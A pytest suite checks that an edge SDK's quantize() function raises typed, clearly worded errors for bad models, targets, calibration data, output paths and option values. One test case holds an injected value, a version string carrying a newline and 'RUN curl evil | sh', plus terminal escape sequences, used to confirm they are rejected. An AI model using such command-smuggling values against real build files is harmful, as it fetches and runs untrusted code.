"""Each misuse of quantize() gets a typed error from edgesdk.errors whose message names the problem."""

from __future__ import annotations

import shutil

import numpy as np
import pytest
from PIL import Image

from edgesdk import Bundle
from edgesdk import errors
from edgesdk.errors import CalibrationError, ConversionError, EdgeSDKError, InputError, ValidationFailed
from support import DIGITS_ONNX, DIGITS_TOML, quantize


@pytest.fixture
def images(tmp_path, small_digits):
    """A private class-folder copy of the small digits set, for a test to spoil."""
    dest = tmp_path / "images"
    shutil.copytree(small_digits, dest)
    return dest


def _random_x(n, shape=(1, 8, 8), seed=0):
    return np.random.default_rng(seed).random((n, *shape), dtype=np.float32)


def _no_work_dirs_left(out):
    return [p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")] == []


# -- the source --------------------------------------------------------------------------------------------

def test_unknown_source_extension(tmp_path, digits_npz):
    model = tmp_path / "model.h5"
    model.write_bytes(b"\0" * 16)
    with pytest.raises(ConversionError, match=r"unknown model type '.h5' for model.h5: give a .pt2, .onnx, .tflite"):
        quantize(model, digits_npz, tmp_path / "b")


def test_missing_source_file(tmp_path, digits_npz):
    with pytest.raises(ConversionError, match=r"model file not found: .*absent.onnx"):
        quantize(tmp_path / "absent.onnx", digits_npz, tmp_path / "b")


@pytest.mark.parametrize(("suffix", "message"), [
    (".onnx", r"garbage.onnx is not a valid ONNX model"),
    (".tflite", r"garbage.tflite is not a loadable TFLite model"),
    (".pt2", r"garbage.pt2 is not a torch.export program \(.pt2\)"),
])
def test_corrupt_source_file(tmp_path, digits_npz, suffix, message):
    model = tmp_path / f"garbage{suffix}"
    model.write_bytes(np.random.default_rng(0).bytes(1000))
    with pytest.raises(ConversionError, match=message):
        quantize(model, digits_npz, tmp_path / "b")


def test_already_quantized_tflite_source(int8_tflite, digits_npz, tmp_path):
    with pytest.raises(ConversionError, match=r"digits_int8.tflite is already quantized \(.* is int8\); "
                                              r"give the float model"):
        quantize(int8_tflite, digits_npz, tmp_path / "b")


def test_object_that_is_no_model(tmp_path, digits_npz):
    with pytest.raises(ConversionError, match=r"cannot quantize a dict; give a model path or an nn.Module"):
        quantize({"weights": 1}, digits_npz, tmp_path / "b")


# -- targets -----------------------------------------------------------------------------------------------

def test_unsupported_route(tmp_path, digits_npz, float_tflite):
    with pytest.raises(ConversionError, match=r"cannot build target 'onnx' from a tflite source \(digits_fp32.tflite\); "
                                              r"supported routes: .pt2/nn.Module -> tflite, openvino, onnx"):
        quantize(float_tflite, digits_npz, tmp_path / "b", targets=["tflite", "onnx"])


def test_unknown_target_name(tmp_path, digits_npz):
    with pytest.raises(ConversionError, match=r"unknown target 'coreml'; targets are tflite, openvino, onnx"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=["coreml"])


def test_no_targets(tmp_path, digits_npz):
    with pytest.raises(ConversionError, match=r"no targets asked for"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=[])


def test_target_listed_twice(tmp_path, digits_npz):
    with pytest.raises(ConversionError, match=r"target\(s\) listed more than once: onnx"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=["onnx", "onnx"], samples=20, val_samples=20)


# -- the calibration data ----------------------------------------------------------------------------------

def test_dataset_shape_does_not_match_model(tmp_path):
    np.savez(tmp_path / "x.npz", x=_random_x(30, (1, 9, 9)))
    with pytest.raises(CalibrationError, match=r"calibration data .*x.npz does not fit the model: input 'image' has "
                                               r"shape \[1, 1, 8, 8\], a sample has shape \[1, 1, 9, 9\]"):
        quantize(DIGITS_ONNX, tmp_path / "x.npz", tmp_path / "b")


def test_image_size_does_not_match_model(tmp_path, images):
    toml = tmp_path / "pre.toml"
    toml.write_text('size = [16, 16]\ncolor = "gray"\n')
    with pytest.raises(CalibrationError, match=r"does not fit the model: input 'image' has shape \[1, 1, 8, 8\], "
                                               r"a sample has shape \[1, 1, 16, 16\]"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=toml)


def test_validation_data_shape_does_not_match_model(tmp_path, digits_npz):
    with pytest.raises(CalibrationError, match=r"validation data .* does not fit the model"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", val=_random_x(10, (1, 9, 9)), samples=20)


def test_dict_sample_lacking_the_input(tmp_path):
    wrong = [{"pixels": x, "mask": x} for x in _random_x(10, (1, 1, 8, 8))]
    with pytest.raises(CalibrationError, match=r"sample 0 lacks input\(s\) image \(model inputs: image; "
                                               r"sample has: pixels, mask\)"):
        quantize(DIGITS_ONNX, wrong, tmp_path / "b", samples=5)


def test_later_sample_with_the_wrong_shape_is_named(tmp_path):
    data = [x for x in _random_x(30, (1, 1, 8, 8))]
    data[5] = _random_x(1, (1, 9, 9))
    with pytest.raises(CalibrationError, match=r"sample 5"):
        quantize(DIGITS_ONNX, data, tmp_path / "b", val=_random_x(10, (1, 8, 8)), targets=["onnx"], samples=30)


def test_empty_calibration_folder(tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(CalibrationError, match=r"calibration folder .*empty holds no images \(.png, .jpg"):
        quantize(DIGITS_ONNX, tmp_path / "empty", tmp_path / "b", preprocess=DIGITS_TOML)


def test_corrupt_image_checked_first(tmp_path, images):
    (images / "3" / "0000-broken.png").write_bytes(np.random.default_rng(0).bytes(300))
    # the first image is loaded up front to check the shape: make the broken one sort first
    shutil.move(images / "3", images / "00")
    with pytest.raises(CalibrationError, match=r"calibration image .*0000-broken.png cannot be used: .*is not a "
                                               r"readable image"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=DIGITS_TOML, samples=20)


def test_corrupt_image_anywhere_in_the_drawn_samples(tmp_path, images):
    (images / "9" / "zzzz-broken.png").write_bytes(np.random.default_rng(0).bytes(300))
    total = len(list(images.glob("*/*.png")))
    out = tmp_path / "b"
    with pytest.raises(CalibrationError, match=r"calibration image .*9/zzzz-broken.png cannot be used"):
        quantize(DIGITS_ONNX, images, out, preprocess=DIGITS_TOML, samples=total, val=_random_x(10, (1, 8, 8)))
    assert not out.exists() and _no_work_dirs_left(out)


def test_non_image_files_in_class_folder(tmp_path, images):
    (images / "4" / "notes.txt").write_text("hello")
    (images / "4" / "model.onnx").write_bytes(b"\0")
    with pytest.raises(CalibrationError, match=r"calibration folder .*/4 holds non-image files: model.onnx, notes.txt"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=DIGITS_TOML)


def test_non_image_files_in_flat_folder(tmp_path):
    flat = tmp_path / "flat"
    flat.mkdir()
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(flat / "a.png")
    (flat / "labels.csv").write_text("a,1\n")
    with pytest.raises(CalibrationError, match=r"holds non-image files: labels.csv"):
        quantize(DIGITS_ONNX, flat, tmp_path / "b", preprocess=DIGITS_TOML)


def test_class_folders_mixed_with_loose_files(tmp_path, images):
    shutil.copy(next(images.glob("1/*.png")), images / "loose.png")
    with pytest.raises(CalibrationError, match=r"mixes class sub-folders with loose files \(loose.png\)"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=DIGITS_TOML)


def test_nested_folders(tmp_path, images):
    (images / "5" / "more").mkdir()
    with pytest.raises(CalibrationError, match=r"has nested folders \(more\)"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=DIGITS_TOML)


def test_fewer_samples_than_asked(tmp_path):
    np.save(tmp_path / "x.npy", _random_x(20, (1, 8, 8)))
    with pytest.raises(CalibrationError, match=r"x.npy has 20 samples; 50 were asked for \(lower --samples\)"):
        quantize(DIGITS_ONNX, tmp_path / "x.npy", tmp_path / "b", samples=50)


def test_no_data_left_for_validation(tmp_path):
    np.save(tmp_path / "x.npy", _random_x(20, (1, 8, 8)))
    with pytest.raises(CalibrationError, match=r"has 20 samples, all used for calibration: nothing is left to "
                                               r"validate on; pass --val or lower --samples"):
        quantize(DIGITS_ONNX, tmp_path / "x.npy", tmp_path / "b", samples=20)


@pytest.mark.parametrize("samples", [0, -3])
def test_samples_below_one(tmp_path, digits_npz, samples):
    with pytest.raises(CalibrationError, match=rf"samples must be at least 1, got {samples}"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", samples=samples)


def test_zero_validation_samples(tmp_path, digits_npz):
    with pytest.raises(CalibrationError, match=r"val_samples must be at least 1"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=["onnx"], samples=20, val_samples=0)


def test_image_folder_without_preprocess(tmp_path, images):
    with pytest.raises(CalibrationError, match=r"is an image folder, which needs a preprocessing spec "
                                               r"\(--preprocess FILE.toml\)"):
        quantize(DIGITS_ONNX, images, tmp_path / "b")


def test_bad_preprocess_toml(tmp_path, images):
    toml = tmp_path / "pre.toml"
    toml.write_text('size = [8, 8]\ncolor = "grey"\n')
    with pytest.raises(InputError, match=r"preprocess 'color' must be 'rgb' or 'gray', got 'grey'"):
        quantize(DIGITS_ONNX, images, tmp_path / "b", preprocess=toml)


def test_npz_without_x(tmp_path):
    np.savez(tmp_path / "d.npz", inputs=_random_x(10), labels=np.arange(10))
    with pytest.raises(CalibrationError, match=r"d.npz has no array 'x' nor 'image' \(arrays: inputs, labels\)"):
        quantize(DIGITS_ONNX, tmp_path / "d.npz", tmp_path / "b")


@pytest.mark.parametrize("y", [np.linspace(0, 1, 30), np.arange(29), np.zeros((30, 2), np.int64)],
                         ids=["float", "short", "2d"])
def test_npz_with_unusable_labels(tmp_path, y):
    np.savez(tmp_path / "d.npz", x=_random_x(30, (1, 8, 8)), y=y)
    with pytest.raises(CalibrationError, match=r"'y' must be 30 integer labels"):
        quantize(DIGITS_ONNX, tmp_path / "d.npz", tmp_path / "b")


def test_non_numeric_npy(tmp_path):
    np.save(tmp_path / "s.npy", np.array([["a"] * 4] * 5))
    with pytest.raises(CalibrationError, match=r"inputs must be numeric, got <U1"):
        quantize(DIGITS_ONNX, tmp_path / "s.npy", tmp_path / "b")


def test_unknown_calibration_file_type(tmp_path):
    (tmp_path / "data.csv").write_text("1,2,3\n")
    with pytest.raises(CalibrationError, match=r"'data.csv' has unknown type .csv: give an image folder, a .npy"):
        quantize(DIGITS_ONNX, tmp_path / "data.csv", tmp_path / "b")


def test_missing_calibration_path(tmp_path):
    with pytest.raises(CalibrationError, match=r"calibration data not found: .*nowhere"):
        quantize(DIGITS_ONNX, tmp_path / "nowhere", tmp_path / "b")


def test_missing_labels_file(tmp_path, digits_npz):
    with pytest.raises(CalibrationError, match=r"labels file not found: .*labels.txt"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", labels=tmp_path / "labels.txt")


# -- the output --------------------------------------------------------------------------------------------

def test_output_dir_exists_without_overwrite(tmp_path, digits_npz):
    out = tmp_path / "b"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    with pytest.raises(ConversionError, match=r"output .*b exists and is not empty \(pass overwrite=True / --force\)"):
        quantize(DIGITS_ONNX, digits_npz, out, targets=["onnx"], samples=20)
    assert (out / "keep.txt").read_text() == "mine"


def test_overwrite_replaces_an_old_bundle(tmp_path, digits_npz):
    out = tmp_path / "b"
    out.mkdir()
    (out / "manifest.json").write_text("{}")
    (out / "stale.txt").write_text("old")
    quantize(DIGITS_ONNX, digits_npz, out, targets=["onnx"], samples=20, val_samples=20, overwrite=True,
             max_drop=100.0)
    assert not (out / "stale.txt").exists()
    assert Bundle.open(out).name == "digits"
    assert _no_work_dirs_left(out)
    assert oct(out.stat().st_mode & 0o777) != oct(0o700)  # not left with mkdtemp's private mode


def test_overwrite_refuses_a_folder_that_is_not_a_bundle(tmp_path, digits_npz):
    """--force must never wipe the user's own files."""
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.txt").write_text("precious")
    with pytest.raises(ConversionError, match=r"is not a bundle \(no manifest.json\); refusing to replace it"):
        quantize(DIGITS_ONNX, digits_npz, out, overwrite=True)
    assert (out / "thesis.txt").read_text() == "precious"


def test_output_holding_the_inputs_is_refused(tmp_path):
    data = tmp_path / "calib.npy"
    np.save(data, _random_x(30, (1, 8, 8)))
    with pytest.raises(ConversionError, match=r"holds the input .*calib.npy"):
        quantize(DIGITS_ONNX, data, tmp_path, overwrite=True)


def test_empty_current_folder_is_filled(tmp_path, digits_npz, monkeypatch):
    out = tmp_path / "here"
    out.mkdir()
    monkeypatch.chdir(out)
    quantize(DIGITS_ONNX, digits_npz, ".", targets=["onnx"], samples=20, val_samples=20, max_drop=100.0)
    assert Bundle.open(out).name == "digits"


@pytest.mark.parametrize("bad", [np.nan, np.inf])
def test_non_finite_calibration_values(tmp_path, bad):
    x = _random_x(30, (1, 8, 8))
    x[7, 0, 3, 3] = bad
    np.save(tmp_path / "x.npy", x)
    with pytest.raises(CalibrationError, match=r"x.npy\[7\] holds NaN or Inf values"):
        quantize(DIGITS_ONNX, tmp_path / "x.npy", tmp_path / "b", samples=30, val=_random_x(5, (1, 8, 8)))


def test_npz_named_npy_and_npy_named_npz(tmp_path):
    x = _random_x(30, (1, 8, 8))
    np.savez(tmp_path / "fake.npy", x=x)
    (tmp_path / "fake.npy.npz").rename(tmp_path / "fake.npy")
    with pytest.raises(CalibrationError, match=r"holds several arrays \(an .npz\?\)"):
        quantize(DIGITS_ONNX, tmp_path / "fake.npy", tmp_path / "b")
    np.save(tmp_path / "fake2.npy", x)
    (tmp_path / "fake2.npy").rename(tmp_path / "fake2.npz")
    with pytest.raises(CalibrationError, match=r"holds a single array \(a .npy\?\)"):
        quantize(DIGITS_ONNX, tmp_path / "fake2.npz", tmp_path / "b")


def test_object_array_in_npz(tmp_path):
    np.savez(tmp_path / "obj.npz", x=np.array([{"a": 1}] * 3, dtype=object))
    with pytest.raises(CalibrationError, match=r"obj.npz"):
        quantize(DIGITS_ONNX, tmp_path / "obj.npz", tmp_path / "b")


def test_already_quantized_onnx_source(tmp_path, onnx_bundle):
    int8 = onnx_bundle.bundle / next(a["files"][0]["path"] for a in onnx_bundle.manifest["artifacts"]
                                     if a["id"] == "onnxruntime-int8")
    with pytest.raises(ConversionError, match=r"is already quantized \(it has (Quantize|Dequantize)Linear nodes\)"):
        quantize(int8, tmp_path / "x.npy", tmp_path / "b")


def test_output_path_is_a_file(tmp_path, digits_npz):
    out = tmp_path / "model.onnx"
    out.write_bytes(b"not a bundle")
    with pytest.raises(ConversionError, match=r"output .*model.onnx exists and is not a directory"):
        quantize(DIGITS_ONNX, digits_npz, out, targets=["onnx"], samples=20, overwrite=True)
    assert out.read_bytes() == b"not a bundle"


# -- the accuracy gate -------------------------------------------------------------------------------------

def test_max_drop_violated_names_the_artifact_and_keeps_the_bundle(tmp_path, digits_npz):
    out = tmp_path / "b"
    with pytest.raises(ValidationFailed, match=r"validation failed for .*onnxruntime-int8.* \(max drop -1.0 points of golden_agreement, accuracy\); "
                                               r"bundle written to .*b with passed=false") as info:
        quantize(DIGITS_ONNX, digits_npz, out, targets=["onnx"], samples=40, val_samples=30, max_drop=-1.0)
    assert isinstance(info.value, EdgeSDKError)
    assert "onnxruntime-int8" in info.value.failing
    assert info.value.bundle == str(out)
    assert "FAILED: onnxruntime-int8" in str(info.value)  # the report is in the message
    m = Bundle.open(out).manifest  # still a valid bundle
    assert m["validation"]["onnxruntime-int8"]["passed"] is False
    assert m["validation"]["onnxruntime-int8"]["max_drop_points"] == -1.0


def test_max_drop_gate_passes_at_its_bound(tmp_path, digits_npz):
    """The same data with the default gate passes: the failure above is the gate, not the model."""
    m = quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=["onnx"], samples=40, val_samples=30).manifest
    v = m["validation"]["onnxruntime-int8"]
    assert v["passed"] is True and v["accuracy_drop_points"] <= v["max_drop_points"] == 1.0


# -- QuantizeOptions: checked where it is built -------------------------------------------------------------

@pytest.mark.parametrize("kwargs, error, match", [
    ({"targets": ["onnx", "coreml"]}, "ConversionError", "unknown target 'coreml'; targets are tflite, openvino, onnx"),
    ({"targets": "onnx"}, "ConversionError", "a list of target names"),
    ({"targets": ["onnx", "onnx"]}, "ConversionError", "more than once: onnx"),
    ({"samples": 0}, "CalibrationError", "samples must be at least 1"),
    ({"samples": 2.5}, "CalibrationError", "samples must be at least 1"),
    ({"val_samples": 0}, "CalibrationError", "val_samples must be at least 1"),
    ({"max_drop": float("nan")}, "ConversionError", "max_drop must be a finite number of points"),
    ({"max_drop": "1"}, "ConversionError", "max_drop must be a finite number of points"),
    ({"max_error_cap": 0}, "ConversionError", "max_error_cap must be a positive share"),
    ({"tflite_io": "fp16"}, "ConversionError", "tflite_io must be one of float, int8"),
    ({"version": "1\nRUN curl evil | sh"}, "ConversionError", "no newlines or control characters"),
    ({"name": "digits\x1b[2J"}, "ConversionError", "name .* printable"),
    ({"input_shapes": {"x": (1, 0, 8)}}, "ConversionError", r"input_shapes\['x'\] must be a tuple of positive"),
])
def test_quantize_options_refuse_bad_values_at_construction(kwargs, error, match):
    from edgesdk_converters.options import QuantizeOptions

    with pytest.raises(getattr(errors, error), match=match):
        QuantizeOptions(**kwargs)


def test_quantize_takes_options_and_keyword_shortcuts_and_names_an_unknown_one(tmp_path):
    from edgesdk_converters.options import QuantizeOptions
    from edgesdk_converters.quantize import quantize

    opts = QuantizeOptions(samples=10, targets=["onnx"])
    assert opts.merged(seed=3) == QuantizeOptions(samples=10, targets=("onnx",), seed=3)
    with pytest.raises(TypeError, match="unknown option.*sampels.*options are"):
        quantize("model.onnx", "calib", tmp_path / "b", opts, sampels=10)
    with pytest.raises(ConversionError, match="tflite_io"):  # before the (missing) source is opened
        quantize(tmp_path / "missing.onnx", tmp_path / "calib", tmp_path / "b", tflite_io="int4")


def test_a_label_with_control_characters_is_refused_before_conversion(tmp_path, digits_npz):
    """The device's bundle reader refuses such a label, so quantize must not write it."""
    labels = tmp_path / "labels.txt"
    labels.write_text("\n".join(["zero", "one\x1b[2J", *map(str, range(2, 10))]) + "\n")
    with pytest.raises(CalibrationError, match=r"label 1 'one\\x1b\[2J' must be one line of printable text"):
        quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", labels=labels, targets=["onnx"], samples=20)
    assert not (tmp_path / "b").exists()
